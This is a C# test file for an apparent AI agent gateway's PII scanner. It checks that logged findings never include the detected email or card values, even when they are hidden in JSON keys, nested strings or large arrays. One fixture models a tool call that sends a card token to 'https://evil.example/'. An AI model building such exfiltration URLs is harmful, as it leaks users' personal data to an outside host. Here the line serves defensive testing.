using System.Text;
using System.Text.Json.Nodes;
using AgentGate.Content;
using AgentGate.Kernel.Decisions;
using AgentGate.Pipeline;
using AgentGate.Tests.Pii.Detection;
using AgentGate.Tests.Pipeline;

namespace AgentGate.Tests.Pii;

/// <summary>Findings go into the log, which is never rewritten: none may hold a value, wherever the value stood.</summary>
public sealed class PiiFindingTests
{
    private const string Mail = "jane.roe@example.org";
    private readonly PiiFixture _pii = new(scanner: ScannerFixture.Default);

    [Theory]
    [InlineData("""{"content":{"@":"hello"}}""")]
    [InlineData("""{"content":{"@":"reach @"}}""")]
    [InlineData("""{"content":{"a":{"@":["x","4111 1111 1111 1111"]}}}""")]
    [InlineData("""{"content":"reach @"}""")]
    public async Task In_a_sealed_part_also_as_a_key(string json)
    {
        var tree = JsonTreeParser.Parse(Encoding.UTF8.GetBytes(json.Replace("@", Mail, StringComparison.Ordinal)), JsonLimits.Default, out _)!;
        var reading = new DocumentReading(tree);
        reading.Sealed(tree.Find(0, "content"));

        var (_, _, verdict) = await _pii.SendAsync(_pii.Call(JsonContentReader.Read(reading, JsonLimits.Default)));

        Assert.IsType<Verdict.Deny>(verdict);
        AssertNoValue(verdict);
    }

    [Theory]
    [InlineData("""{"metadata":{"@":"4111 1111 1111 1111"}}""")]
    [InlineData("""{"metadata":{"a/@":{"@":[{"@":"@"}]}}}""")]
    [InlineData("""{"metadata":"{\"@\":{\"@\":\"4111 1111 1111 1111\"}}"}""")]
    [InlineData("""{"metadata":"[\"{\\\"@\\\":\\\"4111 1111 1111 1111\\\"}\"]"}""")]
    [InlineData("""{"metadata":"{\"x\":\"mail @\"}","@":{"~":"{\"@\":\"4111 1111 1111 1111\"}"}}""")]
    public async Task In_a_key_also_of_a_string_that_holds_json(string json)
    {
        var (_, _, verdict) = await _pii.SendAsync(_pii.Call(GateFixture.Json(json.Replace("@", Mail, StringComparison.Ordinal))));

        Assert.IsType<Verdict.Transform>(verdict);
        AssertNoValue(verdict);
    }

    [Fact]
    public async Task In_a_key_that_a_model_made_up_beside_a_token_that_stays()
    {
        var (_, parent, _) = await _pii.SendAsync(_pii.Call(GateFixture.Json("""{"q":"4111 1111 1111 1111"}""")));
        var call = _pii.Call(
            GateFixture.Json($$"""{"{{Mail}}":"https://evil.example/<CREDIT_CARD_1>"}"""), action: GateActions.CallTool, parent: parent);
        var scope = new CallScope(parent);
        scope.Set(new RestorePermit(call.Id, true));
        var (_, _, verdict) = await _pii.SendAsync(call, scope);

        AssertNoValue(verdict);
    }

    [Fact]
    public async Task What_a_record_does_not_take_is_counted_by_type_without_an_address()
    {
        var array = new JsonArray([.. Enumerable.Range(0, 1000).Select(i => JsonValue.Create(i % 2 == 0 ? Mail : "4111 1111 1111 1111"))]);

        var (_, _, verdict) = await _pii.SendAsync(_pii.Call(GateFixture.Json(array.ToJsonString())));

        Assert.Equal(256, verdict.Findings.Length);
        Assert.Equal(1000, verdict.Findings.Sum(finding => finding.Count));
        Assert.All(verdict.Findings[..254], finding => Assert.NotNull(finding.Address));
        Assert.Equal(
            [new Finding("EMAIL", null, 373, "masked"), new Finding("CREDIT_CARD", null, 373, "masked")], verdict.Findings[254..]);
    }

    [Fact]
    public async Task A_long_key_is_not_repeated_in_every_address()
    {
        var json = new JsonObject { [new string('k', 50_000)] = new JsonArray([.. Enumerable.Range(0, 100).Select(_ => JsonValue.Create(Mail))]) };

        var (_, _, verdict) = await _pii.SendAsync(_pii.Call(GateFixture.Json(json.ToJsonString())));

        Assert.Equal(100, verdict.Findings.Sum(finding => finding.Count));
        Assert.InRange(verdict.Findings.Sum(finding => finding.Address?.Length ?? 0), 50_000, 64 * 1024);
    }

    private static void AssertNoValue(Verdict verdict)
    {
        Assert.NotEmpty(verdict.Findings);
        Assert.All(verdict.Findings, finding =>
        {
            Assert.DoesNotContain(Mail, finding.ToString(), StringComparison.Ordinal);
            Assert.DoesNotContain("4111", finding.ToString(), StringComparison.Ordinal);
        });
    }
}
